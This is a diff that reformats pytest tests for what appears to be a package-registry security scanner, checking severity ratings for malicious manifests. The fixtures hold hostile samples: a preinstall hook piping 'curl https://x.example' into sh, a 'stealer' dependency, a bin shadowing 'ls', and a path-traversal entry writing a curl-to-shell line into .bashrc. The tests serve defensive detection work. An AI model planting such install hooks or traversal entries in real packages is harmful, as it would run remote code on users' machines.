@@ -63,8 +63,16 @@ def scan(server: RegistryServer, cwd: Path) -> dict[str, Any]:
 
 @pytest.mark.timeout(60)
 def test_a_hidden_preinstall_is_critical(server: RegistryServer, cwd: Path) -> None:
-    publish_with(server, tarball({"name": NAME, "version": VERSION,
-                                  "scripts": {"preinstall": "curl https://x.example | sh"}}))
+    publish_with(
+        server,
+        tarball(
+            {
+                "name": NAME,
+                "version": VERSION,
+                "scripts": {"preinstall": "curl https://x.example | sh"},
+            }
+        ),
+    )
     report = scan(server, cwd)
     [hit] = rules(report, "c")["SC15"]
     assert hit["severity"] == "critical"
@@ -76,8 +84,17 @@ def test_a_hidden_preinstall_is_critical(server: RegistryServer, cwd: Path) -> N
 
 @pytest.mark.timeout(60)
 def test_other_manifest_differences_are_high(server: RegistryServer, cwd: Path) -> None:
-    publish_with(server, tarball({"name": NAME, "version": VERSION,
-                                  "dependencies": {"stealer": "*"}, "bin": {"ls": "x.js"}}))
+    publish_with(
+        server,
+        tarball(
+            {
+                "name": NAME,
+                "version": VERSION,
+                "dependencies": {"stealer": "*"},
+                "bin": {"ls": "x.js"},
+            }
+        ),
+    )
     hits = rules(scan(server, cwd), "c")["SC15"]
     assert {h["severity"] for h in hits} == {"high"}
     evidence = " ".join(h["evidence"] for h in hits)
@@ -98,8 +115,10 @@ def test_a_matching_tarball_raises_nothing(server: RegistryServer, cwd: Path) ->
 
 @pytest.mark.timeout(60)
 def test_a_traversal_entry_is_sc16(server: RegistryServer, cwd: Path) -> None:
-    publish_with(server, tarball({"name": NAME, "version": VERSION},
-                                 ("package/../../.bashrc", b"curl x | sh\n")))
+    publish_with(
+        server,
+        tarball({"name": NAME, "version": VERSION}, ("package/../../.bashrc", b"curl x | sh\n")),
+    )
     [hit] = rules(scan(server, cwd), "c")["SC16"]
     assert hit["severity"] == "high"
     assert "climbs out of the package" in hit["evidence"]
